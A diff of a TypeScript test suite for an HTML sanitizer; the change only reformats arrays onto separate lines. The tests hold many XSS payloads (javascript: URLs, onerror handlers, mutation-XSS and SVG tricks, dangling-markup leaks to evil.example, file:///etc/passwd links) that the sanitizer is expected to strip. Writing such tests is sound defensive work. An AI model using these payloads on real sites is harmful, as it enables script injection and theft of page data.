@@ -6,11 +6,69 @@ import { HTML_NESTING_LIMIT, htmlToText, sanitizeHtml } from "../src/Content/Htm
 const REL = `rel="noopener noreferrer nofollow ugc"`
 
 const ALLOWED_TAGS = new Set([
-  "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "span", "section", "article", "header", "footer", "nav", "aside",
-  "main", "blockquote", "pre", "code", "hr", "br", "ul", "ol", "li", "dl", "dt", "dd", "figure", "figcaption",
-  "details", "summary", "sup", "sub", "em", "strong", "b", "i", "u", "s", "del", "ins", "mark", "small", "abbr",
-  "cite", "q", "kbd", "samp", "var", "time", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
-  "colgroup", "col", "a", "img", "input"
+  "h1",
+  "h2",
+  "h3",
+  "h4",
+  "h5",
+  "h6",
+  "p",
+  "div",
+  "span",
+  "section",
+  "article",
+  "header",
+  "footer",
+  "nav",
+  "aside",
+  "main",
+  "blockquote",
+  "pre",
+  "code",
+  "hr",
+  "br",
+  "ul",
+  "ol",
+  "li",
+  "dl",
+  "dt",
+  "dd",
+  "figure",
+  "figcaption",
+  "details",
+  "summary",
+  "sup",
+  "sub",
+  "em",
+  "strong",
+  "b",
+  "i",
+  "u",
+  "s",
+  "del",
+  "ins",
+  "mark",
+  "small",
+  "abbr",
+  "cite",
+  "q",
+  "kbd",
+  "samp",
+  "var",
+  "time",
+  "table",
+  "thead",
+  "tbody",
+  "tfoot",
+  "tr",
+  "th",
+  "td",
+  "caption",
+  "colgroup",
+  "col",
+  "a",
+  "img",
+  "input"
 ])
 
 // Ids only as in-page anchors: what mdast-util-to-hast writes for footnotes (DOM clobbering).
@@ -169,16 +227,31 @@ describe("sanitizeHtml keeps what is allowed", () => {
 
   it("ids are kept only as footnote anchors: user-content-… (URL fragment characters) and footnote-label", () => {
     const kept = [
-      "footnote-label", "user-content-fn-1", "user-content-fnref-1-2", "user-content-fn-%C3%A9", "user-content-fn-1.2",
-      "user-content-fn-x:y", "user-content-fn-a'b", "user-content-fn-é"
+      "footnote-label",
+      "user-content-fn-1",
+      "user-content-fnref-1-2",
+      "user-content-fn-%C3%A9",
+      "user-content-fn-1.2",
+      "user-content-fn-x:y",
+      "user-content-fn-a'b",
+      "user-content-fn-é"
     ]
     const result = clean(kept.map((id) => `<p id="${id}">x</p>`).join(""))
     expect(result.html).toBe(kept.map((id) => `<p id="${id}">x</p>`).join(""))
     expect(result.warnings).toEqual([])
 
     const dropped = [
-      "intro", "login", "forms", "user-content-", "user-content-a b", "user-content-<x>", `user-content-"x`,
-      "User-Content-x", "footnote-label-2", "x-user-content-y", `user-content-${"a".repeat(129)}`
+      "intro",
+      "login",
+      "forms",
+      "user-content-",
+      "user-content-a b",
+      "user-content-<x>",
+      `user-content-"x`,
+      "User-Content-x",
+      "footnote-label-2",
+      "x-user-content-y",
+      `user-content-${"a".repeat(129)}`
     ]
     const stripped = clean(dropped.map((id) => `<div id='${id}'>x</div>`).join(""))
     expect(stripped.html).toBe(`<div>x</div>`.repeat(dropped.length))
@@ -302,8 +375,12 @@ golden("javascript:, data: and vbscript: URLs with entities, controls, tabs and 
   ["leading control character", `<a href="&#1;javascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
     "removed javascript: URL from href"
   ]],
-  ["NUL inside the scheme", `<a href="java\0script:alert(1)">x</a><a href="java&#0;script:alert(1)">y</a>`,
-    `<a ${REL}>x</a><a ${REL}>y</a>`, ["removed URL with a malformed scheme from href"]],
+  [
+    "NUL inside the scheme",
+    `<a href="java\0script:alert(1)">x</a><a href="java&#0;script:alert(1)">y</a>`,
+    `<a ${REL}>x</a><a ${REL}>y</a>`,
+    ["removed URL with a malformed scheme from href"]
+  ],
   ["a comment is no comment inside an attribute", `<a href="java<!-- -->script:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
     "removed URL with a malformed scheme from href"
   ]],
@@ -325,11 +402,18 @@ golden("javascript:, data: and vbscript: URLs with entities, controls, tabs and 
     "removed data: URL that is not a PNG, JPEG, GIF or WebP image from src"
   ]],
   ["mailto image", `<img src="mailto:a@b.c">`, `<img />`, ["removed mailto: URL from src"]],
-  ["cite is a URL attribute too", `<blockquote cite="javascript:alert(1)">q</blockquote>`, `<blockquote>q</blockquote>`,
-    ["removed javascript: URL from cite"]],
-  ["other schemes", `<a href="file:///etc/passwd">1</a><a href="ftp://x">2</a><a href="tel:1">3</a>`,
+  [
+    "cite is a URL attribute too",
+    `<blockquote cite="javascript:alert(1)">q</blockquote>`,
+    `<blockquote>q</blockquote>`,
+    ["removed javascript: URL from cite"]
+  ],
+  [
+    "other schemes",
+    `<a href="file:///etc/passwd">1</a><a href="ftp://x">2</a><a href="tel:1">3</a>`,
     `<a ${REL}>1</a><a ${REL}>2</a><a ${REL}>3</a>`,
-    ["removed file: URL from href", "removed ftp: URL from href", "removed tel: URL from href"]],
+    ["removed file: URL from href", "removed ftp: URL from href", "removed tel: URL from href"]
+  ],
   ["full-width letters make a malformed scheme", `<a href="ｊavascript:alert(1)">x</a>`, `<a ${REL}>x</a>`, [
     "removed URL with a malformed scheme from href"
   ]]
@@ -358,10 +442,18 @@ golden("SVG and MathML namespace confusion", [
       "removed event handler attribute onerror"
     ]
   ],
-  ["svg foreignObject", `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg><p>ok</p>`,
-    `<p>ok</p>`, ["removed <svg> element and its content"]],
-  ["svg animate retargeting href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
-    ``, ["removed <svg> element and its content"]],
+  [
+    "svg foreignObject",
+    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg><p>ok</p>`,
+    `<p>ok</p>`,
+    ["removed <svg> element and its content"]
+  ],
+  [
+    "svg animate retargeting href",
+    `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
+    ``,
+    ["removed <svg> element and its content"]
+  ],
   ["svg use with data URL", `<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>`, ``, [
     "removed <svg> element and its content"
   ]]
@@ -394,11 +486,20 @@ golden("mutation XSS through raw-text elements: content is discarded, never turn
   ["select and option", `<select><option><img src=x onerror=alert(1)></option></select>`, ``, [
     "removed <select> element and its content"
   ]],
-  ["entity-encoded markup inside a dropped element stays dropped", `<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>`,
-    ``, ["removed <option> element and its content"]],
-  ["nested raw-text inside noscript", `<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`, ``, [
-    "removed <noscript> element and its content"
-  ]]
+  [
+    "entity-encoded markup inside a dropped element stays dropped",
+    `<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>`,
+    ``,
+    ["removed <option> element and its content"]
+  ],
+  [
+    "nested raw-text inside noscript",
+    `<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`,
+    ``,
+    [
+      "removed <noscript> element and its content"
+    ]
+  ]
 ])
 
 golden("comment, CDATA and processing-instruction tricks", [
@@ -422,11 +523,16 @@ golden("comment, CDATA and processing-instruction tricks", [
     "removed processing instruction"
   ]],
   ["bogus comment from a broken end tag", `</ img src=x onerror=alert(1)><p>x</p>`, `<p>x</p>`, ["removed comment"]],
-  ["doctype and document wrappers go silently", `<!DOCTYPE html><html><head><meta charset=utf-8><title>T</title></head>` +
-    `<body><p>Body</p></body></html>`, `<p>Body</p>`, [
-    "removed <meta> element",
-    "removed <title> element and its content"
-  ]]
+  [
+    "doctype and document wrappers go silently",
+    `<!DOCTYPE html><html><head><meta charset=utf-8><title>T</title></head>` +
+    `<body><p>Body</p></body></html>`,
+    `<p>Body</p>`,
+    [
+      "removed <meta> element",
+      "removed <title> element and its content"
+    ]
+  ]
 ])
 
 golden("<base>, meta refresh and <link>", [
@@ -461,7 +567,7 @@ golden("forms and formaction", [
   [
     "form, input and button; the button label stays as text",
     `<form action="javascript:alert(1)"><input name=q formaction=javascript:alert(1)>` +
-      `<button formaction="javascript:alert(1)">Go</button></form>`,
+    `<button formaction="javascript:alert(1)">Go</button></form>`,
     `Go`,
     [
       "removed <form> element (its content was kept)",
@@ -469,21 +575,26 @@ golden("forms and formaction", [
       "removed <button> element (its content was kept)"
     ]
   ],
-  ["formaction on an allowed element", `<a href="/x" formaction="javascript:alert(1)">x</a>`, `<a href="/x" ${REL}>x</a>`, [
-    "removed attribute formaction from <a>"
-  ]],
+  [
+    "formaction on an allowed element",
+    `<a href="/x" formaction="javascript:alert(1)">x</a>`,
+    `<a href="/x" ${REL}>x</a>`,
+    [
+      "removed attribute formaction from <a>"
+    ]
+  ],
   [
     "GFM task list checkboxes (disabled) are kept",
     `<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> done</li>` +
-      `<li class="task-list-item"><input type="checkbox" disabled> todo</li></ul>`,
+    `<li class="task-list-item"><input type="checkbox" disabled> todo</li></ul>`,
     `<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled /> done</li>` +
-      `<li class="task-list-item"><input type="checkbox" disabled /> todo</li></ul>`,
+    `<li class="task-list-item"><input type="checkbox" disabled /> todo</li></ul>`,
     []
   ],
   [
     "a checkbox keeps type, checked and disabled only, as booleans; form, formaction, name, value, id go",
     `<form id=f action=javascript:1></form><input TYPE=CheckBox checked=checked disabled=false form=f ` +
-      `formaction=javascript:alert(1) name=n value=v id=user-content-x class=c onclick=alert(1) autofocus>`,
+    `formaction=javascript:alert(1) name=n value=v id=user-content-x class=c onclick=alert(1) autofocus>`,
     `<input type="checkbox" checked disabled />`,
     [
       "removed <form> element (its content was kept)",
@@ -500,9 +611,9 @@ golden("forms and formaction", [
   [
     "every other input goes: not a checkbox, not disabled, or a type a browser would not read as checkbox",
     `<input type=text value=x><input type=hidden name=csrf><input type=submit formaction=javascript:1>` +
-      `<input type=image src=javascript:1><input type=file><input type=password><input disabled>` +
-      `<input type=checkbox><input type=checkbox checked onclick=alert(1)><input type=" checkbox" disabled>` +
-      `<input type=radio disabled><input type=text type=checkbox disabled><p>after</p>`,
+    `<input type=image src=javascript:1><input type=file><input type=password><input disabled>` +
+    `<input type=checkbox><input type=checkbox checked onclick=alert(1)><input type=" checkbox" disabled>` +
+    `<input type=radio disabled><input type=text type=checkbox disabled><p>after</p>`,
     `<p>after</p>`,
     [
       "removed <input> element (only disabled checkboxes, as in task lists, are kept)",
@@ -522,8 +633,12 @@ golden("CSS url(), expression() and overlays", [
     "removed style attribute"
   ]],
   ["expression() in style", `<p style="width:expression(alert(1))">b</p>`, `<p>b</p>`, ["removed style attribute"]],
-  ["full-page overlay", `<div style="position:fixed;inset:0;z-index:2147483647;background:white">Log in</div>`,
-    `<div>Log in</div>`, ["removed style attribute"]],
+  [
+    "full-page overlay",
+    `<div style="position:fixed;inset:0;z-index:2147483647;background:white">Log in</div>`,
+    `<div>Log in</div>`,
+    ["removed style attribute"]
+  ],
   ["style element with @import", `<style>@import url(//evil.example/x.css);</style><p>x</p>`, `<p>x</p>`, [
     "removed <style> element and its content"
   ]]
@@ -561,7 +676,10 @@ golden("dangling markup", [
     "an open quote that runs into the next tag",
     `<img src='https://evil.example/?<p class='x'>secret</p>`,
     `<img />secret<p></p>`,
-    ["removed URL containing line breaks or angle brackets (dangling markup) from src", "removed attribute x? from <img>"]
+    [
+      "removed URL containing line breaks or angle brackets (dangling markup) from src",
+      "removed attribute x? from <img>"
+    ]
   ],
   ["unterminated link", `<a href="https://evil.example/?<p>secret</p>`, ``, [
     "removed an unfinished tag at the end of the input (possible dangling markup)"
@@ -633,33 +751,166 @@ describe("warnings", () => {
 
 describe("idempotence over generated input", () => {
   const fragments = [
-    "<p>", "</p>", "<div>", "</div>", "<span>", "</span>", `<a href="https://e.example/?a=1&amp;b=2">`, "</a>",
-    `<a href='javascript:alert(1)'>`, "<img src=x onerror=alert(1)>", `<img src="data:image/png;base64,iVBOR" alt="a">`,
-    "<img src='https://x/?", "<svg/onload=alert(1)>", "</svg>", "<math><mtext><table><mglyph><style>", "</style>",
-    "<script>alert(1)</script>", "<script>", "</script>", "<noscript>", "</noscript>", "<textarea>", "</textarea>",
-    "<title>", "</title>", "<xmp>", "</xmp>", "<noembed>", "</noembed>", "<iframe srcdoc='<script>1</script>'>",
-    "</iframe>", "<template shadowrootmode=open>", "</template>", "<!--", "-->", "<!-->", "<![CDATA[", "]]>",
-    "<?xml x?>", "<!DOCTYPE html>", "<table>", "</table>", "<tr>", "</tr>", "<td colspan=2>", "</td>", "<th>",
-    "<thead>", "<tbody>", "<caption>", "<col span=2>", "<ul>", "<li>", "</li>", "</ul>", "<ol start=3>", "<dl>",
-    "<dt>", "<dd>", "<pre>", "</pre>", "<code>", "</code>", "<form action=javascript:1>", "</form>",
-    "<button formaction=javascript:1>", "<input type=checkbox>", "<select>", "<option>", "</select>",
-    "<input type=checkbox disabled>", "<input type=CHECKBOX checked=checked disabled form=f name=n onclick=1>",
-    "<input type=text disabled>", "<input type=hidden name=x value=y>", "<input type=image src=javascript:1>",
-    "<input disabled>", "<input type=checkbox disabled", "</input>", "<form id=f>", "<button>", "</button>",
-    "<section data-footnotes class=footnotes>", "</section>", "<section data-footnotes=x>",
+    "<p>",
+    "</p>",
+    "<div>",
+    "</div>",
+    "<span>",
+    "</span>",
+    `<a href="https://e.example/?a=1&amp;b=2">`,
+    "</a>",
+    `<a href='javascript:alert(1)'>`,
+    "<img src=x onerror=alert(1)>",
+    `<img src="data:image/png;base64,iVBOR" alt="a">`,
+    "<img src='https://x/?",
+    "<svg/onload=alert(1)>",
+    "</svg>",
+    "<math><mtext><table><mglyph><style>",
+    "</style>",
+    "<script>alert(1)</script>",
+    "<script>",
+    "</script>",
+    "<noscript>",
+    "</noscript>",
+    "<textarea>",
+    "</textarea>",
+    "<title>",
+    "</title>",
+    "<xmp>",
+    "</xmp>",
+    "<noembed>",
+    "</noembed>",
+    "<iframe srcdoc='<script>1</script>'>",
+    "</iframe>",
+    "<template shadowrootmode=open>",
+    "</template>",
+    "<!--",
+    "-->",
+    "<!-->",
+    "<![CDATA[",
+    "]]>",
+    "<?xml x?>",
+    "<!DOCTYPE html>",
+    "<table>",
+    "</table>",
+    "<tr>",
+    "</tr>",
+    "<td colspan=2>",
+    "</td>",
+    "<th>",
+    "<thead>",
+    "<tbody>",
+    "<caption>",
+    "<col span=2>",
+    "<ul>",
+    "<li>",
+    "</li>",
+    "</ul>",
+    "<ol start=3>",
+    "<dl>",
+    "<dt>",
+    "<dd>",
+    "<pre>",
+    "</pre>",
+    "<code>",
+    "</code>",
+    "<form action=javascript:1>",
+    "</form>",
+    "<button formaction=javascript:1>",
+    "<input type=checkbox>",
+    "<select>",
+    "<option>",
+    "</select>",
+    "<input type=checkbox disabled>",
+    "<input type=CHECKBOX checked=checked disabled form=f name=n onclick=1>",
+    "<input type=text disabled>",
+    "<input type=hidden name=x value=y>",
+    "<input type=image src=javascript:1>",
+    "<input disabled>",
+    "<input type=checkbox disabled",
+    "</input>",
+    "<form id=f>",
+    "<button>",
+    "</button>",
+    "<section data-footnotes class=footnotes>",
+    "</section>",
+    "<section data-footnotes=x>",
     `<a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">`,
     `<a href="#user-content-fnref-1" data-footnote-backref="" aria-label="Back to reference 1" class="x">`,
-    `<a data-footnote-ref=x aria-describedby=login id=login name=y>`, `<h2 class="sr-only" id="footnote-label">`,
-    "</h2>", `<li id="user-content-fn-%C3%A9">`, `<li class=task-list-item>`, `<ul class=contains-task-list>`,
-    "<div id=login>", "<div id=user-content-x&amp;y>", `<p id="user-content-a'b">`, "<sup>", "</sup>",
-    "<base href=//evil>", "<meta http-equiv=refresh content='0;url=javascript:1'>", "<link rel=stylesheet href=x>",
-    "<object data=x>", "<embed src=x>", `<h1 id=top class="a b$">`, "</h1>", "<blockquote cite=https://x>",
-    "</blockquote>", "<details open>", "<summary>", "</details>", "<b>", "</b>", "<i>", "<em>", "</em>", "<strong>",
-    "<u>", "<br>", "<hr>", "</br>", "<p/>", "<div/>", "text", " ", "\n", "&amp;", "&lt;script&gt;", "&", "<", ">",
-    "\"", "'", "=", "/", "\u0000", "&#0;", "&nbsp;", "é", "<x-custom onclick=1>", "<font color=red>", "</font>",
-    "<center>", `<a href="jav&#x09;ascript:1">`, `<div style="background:url(javascript:1)">`,
-    `<p title="</p><script>">`, "<plaintext>", "<frameset>", "<html>", "<head>", "<body>", "</body>", "<image src=y>",
-    "<a", " href=", "javascript:", "data:text/html,", "on", "error=", "<img", " src=", "<div>".repeat(40)
+    `<a data-footnote-ref=x aria-describedby=login id=login name=y>`,
+    `<h2 class="sr-only" id="footnote-label">`,
+    "</h2>",
+    `<li id="user-content-fn-%C3%A9">`,
+    `<li class=task-list-item>`,
+    `<ul class=contains-task-list>`,
+    "<div id=login>",
+    "<div id=user-content-x&amp;y>",
+    `<p id="user-content-a'b">`,
+    "<sup>",
+    "</sup>",
+    "<base href=//evil>",
+    "<meta http-equiv=refresh content='0;url=javascript:1'>",
+    "<link rel=stylesheet href=x>",
+    "<object data=x>",
+    "<embed src=x>",
+    `<h1 id=top class="a b$">`,
+    "</h1>",
+    "<blockquote cite=https://x>",
+    "</blockquote>",
+    "<details open>",
+    "<summary>",
+    "</details>",
+    "<b>",
+    "</b>",
+    "<i>",
+    "<em>",
+    "</em>",
+    "<strong>",
+    "<u>",
+    "<br>",
+    "<hr>",
+    "</br>",
+    "<p/>",
+    "<div/>",
+    "text",
+    " ",
+    "\n",
+    "&amp;",
+    "&lt;script&gt;",
+    "&",
+    "<",
+    ">",
+    "\"",
+    "'",
+    "=",
+    "/",
+    "\u0000",
+    "&#0;",
+    "&nbsp;",
+    "é",
+    "<x-custom onclick=1>",
+    "<font color=red>",
+    "</font>",
+    "<center>",
+    `<a href="jav&#x09;ascript:1">`,
+    `<div style="background:url(javascript:1)">`,
+    `<p title="</p><script>">`,
+    "<plaintext>",
+    "<frameset>",
+    "<html>",
+    "<head>",
+    "<body>",
+    "</body>",
+    "<image src=y>",
+    "<a",
+    " href=",
+    "javascript:",
+    "data:text/html,",
+    "on",
+    "error=",
+    "<img",
+    " src=",
+    "<div>".repeat(40)
   ]
 
   // mulberry32: a tiny seeded PRNG, so a failure names an input that can be replayed.
